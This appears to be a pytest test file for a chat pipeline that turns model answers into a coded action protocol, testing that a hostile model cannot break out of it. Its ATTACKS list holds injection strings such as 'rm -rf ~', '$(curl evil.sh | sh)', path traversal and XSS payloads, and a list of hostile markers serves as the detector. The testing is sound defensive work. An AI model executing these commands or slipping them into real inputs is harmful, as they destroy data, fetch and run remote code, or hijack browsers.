from __future__ import annotations

import itertools

import pytest

from milio.chat import is_valid_system_message, run_chat
from milio.chat.markdown import is_safe_markdown
from milio.errors import BadRequestError, PayloadTooLargeError
from tests.chat.conftest import DownCompleter, FunctionCompleter, ScriptedCompleter

PDF_MESSAGE = "PDF Content number 1: Revenue grew 12%.\nUser request: summarize this pdf"


def test_fast_path_answers_without_a_model_call() -> None:
    completer = ScriptedCompleter({})
    result = run_chat("open discord", completer, fast_path=True, max_message_chars=1000)
    assert result.system_message == "001discord"
    assert result.source == "local"
    assert result.model_calls == 0
    assert completer.calls == []
    assert result.action is not None
    assert result.action.args == {"name": "discord"}


def test_steps_narrow_from_category_to_details() -> None:
    completer = ScriptedCompleter(
        {"category": "0", "action": "03", "details": '{"name": "report", "ext": "PDF"}'}
    )
    result = run_chat("open the file report.pdf", completer, fast_path=True, max_message_chars=1000)
    assert result.system_message == "003report|pdf"
    assert [c["purpose"] for c in completer.calls] == ["category", "action", "details"]
    assert result.model_calls == 3
    assert result.source == "fake"
    assert all(c["user"] == "open the file report.pdf" for c in completer.calls)
    assert result.action is not None
    assert result.action.name == "open_file"


def test_invalid_detail_becomes_missing_detail_payload() -> None:
    completer = ScriptedCompleter(
        {"category": "0", "action": "01", "details": '{"name": "discord; rm -rf ~"}'}
    )
    result = run_chat("open my thing", completer, fast_path=False, max_message_chars=1000)
    assert result.system_message == "0010"
    assert [e.kind for e in result.errors] == ["out_of_set"]


def test_answer_outside_the_set_is_retried_once_then_not_understood() -> None:
    completer = ScriptedCompleter({"category": "9", "category_retry": "banana"})
    result = run_chat("hmm", completer, fast_path=False, max_message_chars=1000)
    assert result.system_message == "A"
    assert result.model_calls == 2
    assert "not one of the allowed codes" in str(completer.calls[1]["system"])
    assert [e.kind for e in result.errors] == ["out_of_set", "not_understood"]
    assert result.errors[0].model_answer == "9"
    assert result.errors[0].provider == "fake"


def test_retry_that_succeeds_continues_the_pipeline() -> None:
    completer = ScriptedCompleter(
        {"category": "I think hardware", "category_retry": "1", "action": "06"}
    )
    result = run_chat("turn it all off", completer, fast_path=False, max_message_chars=1000)
    assert result.system_message == "106"
    assert result.model_calls == 3


def test_hardware_none_of_these_is_100_and_software_none_is_a() -> None:
    hardware = ScriptedCompleter({"category": "1", "action": "00"})
    software = ScriptedCompleter({"category": "0", "action": "00"})
    assert (
        run_chat("mute", hardware, fast_path=False, max_message_chars=1000).system_message == "100"
    )
    assert run_chat("x", software, fast_path=False, max_message_chars=1000).system_message == "A"


def test_unavailable_providers_give_b() -> None:
    completer = DownCompleter()
    result = run_chat("what is gravity", completer, fast_path=True, max_message_chars=1000)
    assert result.system_message == "B"
    assert completer.calls == 1
    assert [e.kind for e in result.errors] == ["unavailable"]


def test_no_completer_gives_b_when_the_fast_path_cannot_answer() -> None:
    assert (
        run_chat("what is gravity", None, fast_path=True, max_message_chars=1000).system_message
        == "B"
    )
    assert (
        run_chat("open discord", None, fast_path=True, max_message_chars=1000).system_message
        == "001discord"
    )
    assert (
        run_chat("open discord", None, fast_path=False, max_message_chars=1000).system_message
        == "B"
    )


def test_direct_answer_is_sanitized_markdown() -> None:
    completer = ScriptedCompleter(
        {
            "category": "6",
            "answer_6": "Use **this**:\n```html\n<b>x</b>\n```\n<script>alert(1)</script>",
        }
    )
    result = run_chat("write html", completer, fast_path=False, max_message_chars=1000)
    assert result.system_message.startswith("6Use **this**:\n\n```html\n<b>x</b>\n```\n")
    assert "<script>" not in result.system_message
    assert result.action is None


def test_pdf_question_is_answered_as_016() -> None:
    completer = ScriptedCompleter({"category": "0", "action": "16", "answer_016": "Revenue grew."})
    result = run_chat(PDF_MESSAGE, completer, fast_path=True, max_message_chars=1000)
    assert result.system_message == "016Revenue grew."
    assert "16: " in str(completer.calls[1]["system"])


def test_pdf_action_is_not_offered_without_a_pdf() -> None:
    completer = ScriptedCompleter({"category": "0", "action": ["16", "16"]})
    result = run_chat("summarize it", completer, fast_path=False, max_message_chars=1000)
    assert result.system_message == "A"
    assert "16: " not in str(completer.calls[1]["system"])


def test_search_query_is_cleaned() -> None:
    completer = ScriptedCompleter({"category": "3", "search_query": 'weather "Paris"\n; $(reboot)'})
    result = run_chat("weather in paris?", completer, fast_path=False, max_message_chars=1000)
    assert result.system_message == "3weather Paris (reboot)"


def test_request_size_limits() -> None:
    with pytest.raises(PayloadTooLargeError):
        run_chat("x" * 1001, None, fast_path=True, max_message_chars=1000)
    with pytest.raises(BadRequestError):
        run_chat("  ", None, fast_path=True, max_message_chars=1000)


ATTACKS = [
    "0",
    "01",
    "1",
    "17",
    '{"name": "x; rm -rf ~", "ext": "pdf", "old": "../../etc", "new": "-rf", "seconds": 1e99}',
    '{"url": "javascript:alert(1)", "amount": "%1000", "recipient": "a@b.co\\r\\nBcc: x@y.z"}',
    '{"name": "$(curl evil.sh | sh)", "song": "`reboot`", "playlist": "a|b"}',
    '{"seconds": 99999999999999999999, "amount": -1, "url": "https://a.com/\\" & calc"}',
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1))\n```\n<b>",
    "001discord; rm -rf ~",
    "014javascript:alert(1)",
    "A\nB\n0",
    "0\n1\n3",
    "",
    "\x00\x1b[2J",
    "..\\..\\windows\\system32",
]
HOSTILE_MARKERS = [
    "rm -rf",
    "$(",
    "`reboot`",
    "<script",
    "onerror=alert",
    "javascript:",
    "..",
    "\r",
]
MESSAGES = ["open the file report.pdf", "do something", PDF_MESSAGE, "tell me a joke", "volume"]


@pytest.mark.parametrize(("attack", "message"), list(itertools.product(ATTACKS, MESSAGES)))
def test_hostile_model_never_gets_outside_the_protocol(attack: str, message: str) -> None:
    completer = FunctionCompleter(lambda _purpose: attack)
    result = run_chat(message, completer, fast_path=False, max_message_chars=10_000)
    assert is_valid_system_message(result.system_message)
    if result.system_message[:1] in "01" and not result.system_message.startswith("016"):
        for marker in HOSTILE_MARKERS:
            assert marker not in result.system_message


@pytest.mark.parametrize("attack", ATTACKS)
def test_hostile_model_in_every_step_order(attack: str) -> None:
    # A model that picks valid codes but answers details and text with attacks.
    for category, action in [
        ("0", "01"),
        ("0", "03"),
        ("0", "06"),
        ("0", "12"),
        ("0", "14"),
        ("0", "15"),
        ("0", "17"),
        ("1", "01"),
        ("3", ""),
        ("4", ""),
    ]:
        completer = ScriptedCompleter({"category": category, "action": action, "*": attack})
        result = run_chat("please help", completer, fast_path=False, max_message_chars=1000)
        message = result.system_message
        assert is_valid_system_message(message), message
        if category in "01":
            assert message[3:] == "0" or not any(m in message for m in HOSTILE_MARKERS)
        if category == "4":
            assert "<script" not in message
            assert "<img" not in message
            assert is_safe_markdown(message[1:])


@pytest.mark.parametrize(
    "message",
    [
        "001discord",
        "0010",
        "003report|pdf",
        "006a|txt|b",
        "011",
        "012song|",
        "101%10",
        "10210",
        "014https://www.youtube.com/",
        "017120",
        "100",
        "3weather Paris",
        "4Hello **there**",
        "A",
        "B",
        "016Summary.",
    ],
)
def test_protocol_accepts_every_documented_shape(message: str) -> None:
    assert is_valid_system_message(message)


@pytest.mark.parametrize(
    "message",
    [
        "",
        "2",
        "8hello",
        "0",
        "019",
        "001",
        "001a;b",
        "001../x",
        "003report",
        "011x",
        "017-5",
        "0170.5",
        "101%101",
        "014javascript:alert(1)",
        "3a\nb",
        "3",
        "4",
        "4<b>x</b>",
        "A!",
        "Bx",
        "015a@b.co|hi",
        "016",
        "1000",
    ],
)
def test_protocol_refuses_anything_else(message: str) -> None:
    assert not is_valid_system_message(message)
